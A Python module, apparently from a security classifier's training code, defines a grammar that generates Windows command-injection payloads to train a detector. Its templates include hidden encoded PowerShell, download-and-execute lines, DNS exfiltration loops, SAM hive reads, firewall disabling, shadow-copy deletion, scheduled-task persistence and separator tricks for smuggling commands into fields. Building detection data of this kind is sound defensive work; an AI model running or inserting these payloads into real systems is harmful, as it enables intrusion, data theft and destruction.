"""Operating-system commands of Windows: cmd, PowerShell and what lives on every machine."""

from __future__ import annotations

from securitai.train.corpora.attacks.cmdi_base import SHELL, shell_encode
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.kinds import COOKIE, HEADER, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
winrun:
  6×‹wcmd›
  2×cmd ‹/c¦/k¦/C› ‹wcmd›
  cmd.exe /c ‹wcmd›
  cmd.exe /c "‹wcmd›"
  c:\windows\system32\cmd.exe /c ‹wcmd›
  %COMSPEC% /c ‹wcmd›
  %SystemRoot%\system32\cmd.exe /c ‹wcmd›
  ‹winslice›
  ‹caret›
  ‹caret›
  powershell -‹enc¦e¦EncodedCommand¦ec¦nop -w hidden -enc› ‹ps64›
  powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ‹ps64›
  powershell -c "(‹iwr¦curl¦irm› ‹url›)|‹iex¦IEX›"
  powershell "& {‹wcmd0›}"
  powershell iex(iwr ‹url›)
  pwsh -c ‹wcmd0›
  [Convert]::FromBase64String('‹ps64›')|iex
  &([scriptblock]::create((irm ‹url›)))
  IEX(IWR -UseBasicParsing '‹url›')
  $env:comspec
  set x=‹c›&&set y=‹wcmd0›&&call %y%
  for /f %i in ('‹wcmd0›') do nslookup %i.‹host›
  for /L %i in (1,1,‹n›) do ping ‹ip›
  start /b ‹wcmd›
  wmic process call create "‹wcmd›"
  schtasks /create /tn ‹az› /tr "‹wcmd›" /sc minute
  type %SYSTEMROOT%\repair\‹SAM¦SYSTEM›
  netsh firewall set opmode disable
  reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
  net start ‹TermService¦telnet›
  sc stop ‹az›
  vssadmin delete shadows /all /quiet
  echo ‹rnd›>%temp%\‹rnd›.txt
  echo open ‹ip›>x&&echo get ‹az›.exe>>x&&ftp -s:x
  copy \\‹host›\‹az›\‹az›.exe c:\windows\temp\
  \\‹host›\‹az›\‹az›.exe
  cscript //e:vbscript \\‹host›\‹az›.vbs
  msiexec /q /i ‹url›
  curl.exe -o %TEMP%\‹az›.exe ‹url›&&%TEMP%\‹az›.exe
windows:
  10×‹hostpre›‹sepw›‹winrun›‹closew›
  3×‹winrun›
  2×‹sepw›‹wcmd0›‹closew›
  |‹sp›‹winrun›
  &‹sp›‹winrun›‹sp›&
  "&‹winrun›&"
  '&‹winrun›&'
  "|‹winrun›|"
  ||‹sp›‹winrun›
  %26%20‹wcmd0›
  $(‹wcmd0›)
  ;‹sp›‹winrun›
  ‹hostpre›%26‹wcmd0›%26
sepw = &¦&¦&&¦|¦||¦ & ¦ && ¦ | ¦ || ¦"&¦"&&¦"|¦%26¦%26%26¦%7c¦;¦^&¦'&¦&"¦%0d%0a¦%1a¦%0a¦&timeout 1&
closew = ¦¦¦¦¦ &¦&¦ |¦"¦ &rem ¦ #¦ & echo ¦ ||¦ & exit¦ 2>&1¦>nul¦'
""",
    SHELL,
)
KINDS = (
    AttackKind(
        "cmdi.windows",
        Category.CMDI,
        _G.maker("windows", shell_encode),
        4.0,
        (VALUE, COOKIE, HEADER),
    ),
)
